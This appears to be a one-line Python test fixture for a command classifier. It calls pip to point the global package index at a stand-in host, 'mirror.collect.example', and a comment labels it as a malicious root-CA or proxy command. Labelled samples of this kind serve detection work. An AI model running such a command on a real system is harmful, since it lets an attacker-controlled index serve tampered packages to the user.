import subprocess

subprocess.run(["pip", "config", "set", "global.index-url", "https://mirror.collect.example/simple"]) # expect: malicious-command/root-ca-or-proxy
